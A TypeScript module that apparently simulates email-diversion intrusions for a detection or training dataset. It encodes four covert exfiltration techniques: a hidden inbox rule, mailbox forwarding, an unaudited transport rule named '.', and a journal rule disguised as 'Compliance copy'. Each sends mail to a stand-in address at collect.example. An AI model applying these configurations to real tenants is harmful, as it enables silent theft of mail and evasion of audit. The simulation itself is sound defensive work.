// Mail that goes elsewhere by itself: a rule made by a mail client, which Outlook does not show, a mailbox's forwarding,
// a transport rule that hides behind a name of one character and asks not to be audited, and journaling. One sign-in, one
// change, and nothing is opened any more.
import { exchangeShell } from '../application.js';
import { minuteMs } from '../clock.js';
import { cmdlet, type Doer, mailboxDeed } from '../deed.js';
import type { Deed } from '../journal.js';
import type { Person } from '../organisation.js';
import { signInNow } from '../sign-in.js';
import type { Diverted } from '../world.js';
import {
  administrator,
  doerOf,
  entryDay,
  type Scenario,
  stolen,
  strangeBrowser,
  targets,
  visitAt,
} from './intruder.js';

interface Diversion {
  readonly name: string;
  /** The victim's own account does it, else an administrator's. */
  readonly own: boolean;
  /** How the tenant's state shows it; a hidden rule it does not. */
  readonly shown: Pick<Diverted, 'kind' | 'name'> | null;
  readonly operation: (doer: Doer, at: number, victim: Person, to: string) => Deed;
}

const named = (pairs: readonly (readonly [string, string])[]) => pairs.map(([Name, Value]) => ({ Name, Value }));

const diversions: readonly Diversion[] = [
  {
    ...{ name: 'hidden-rule', own: true, shown: null },
    operation: (doer, at, victim, to) =>
      mailboxDeed(doer, at, {
        ...{ owner: victim, operation: 'UpdateInboxRules', recordType: 2, clientInfo: 'Client=MSExchangeRPC' },
        fields: {
          OperationProperties: named([
            ['RuleOperation', 'AddMailboxRule'],
            ['RuleName', '.'],
            ['RuleActions', `[{"ActionType":"Forward","Recipients":["${to}"],"ForwardFlags":"None"}]`],
            ['RuleCondition', ''],
          ]),
        },
      }),
  },
  {
    ...{ name: 'forwarding', own: true, shown: { kind: 'forwarding', name: '' } },
    operation: (doer, at, victim, to) =>
      cmdlet(doer, at, 'Set-Mailbox', victim.upn, [
        ['Identity', victim.upn],
        ['ForwardingSmtpAddress', `smtp:${to}`],
        ['DeliverToMailboxAndForward', 'True'],
      ]),
  },
  {
    ...{ name: 'transport-rule', own: false, shown: { kind: 'transportRule', name: '.' } },
    operation: (doer, at, victim, to) =>
      cmdlet(
        doer,
        at,
        'New-TransportRule',
        '.',
        [
          ['Name', '.'],
          ['SentTo', victim.upn],
          ['BlindCopyTo', to],
          ['SetAuditSeverity', 'DoNotAudit'],
          ['Mode', 'Enforce'],
        ],
        exchangeShell.id,
      ),
  },
  {
    ...{ name: 'journaling', own: false, shown: { kind: 'journalRule', name: 'Compliance copy' } },
    operation: (doer, at, victim, to) =>
      cmdlet(
        doer,
        at,
        'New-JournalRule',
        'Compliance copy',
        [
          ['Name', 'Compliance copy'],
          ['JournalEmailAddress', to],
          ['Recipient', victim.upn],
          ['Scope', 'Global'],
          ['Enabled', 'True'],
        ],
        exchangeShell.id,
      ),
  },
];

export const diversion: readonly Scenario[] = diversions.map(({ name, own, shown, operation }) => ({
  name,
  variants: [],
  rule: () => 'change',
  spread: 'one',
  parameters: { victims: 1 },
  play(stage) {
    const { world, random, places, intrusion } = stage;
    const people = targets(stage, stage.parameters.victims);
    return (day, journal) => {
      if (day !== entryDay(stage)) return;
      people.forEach((victim, i) => {
        const account = own ? victim : administrator(stage);
        const place = random.pick(places);
        const at = visitAt(stage, day, account, random.fork(`entry/${victim.number}`)) + i * minuteMs;
        const to = `box${random.int(100, 999)}@collect.example`;
        signInNow(stolen(stage, account, strangeBrowser(account)), at, place, journal);
        journal.deeds.push(operation(doerOf(stage, account, place), at + 6 * minuteMs, victim, to));
        intrusion.tellDiverted(victim.upn, to);
        if (shown) world.diverted.push({ ...shown, mailbox: victim.upn, to });
      });
    };
  },
}));
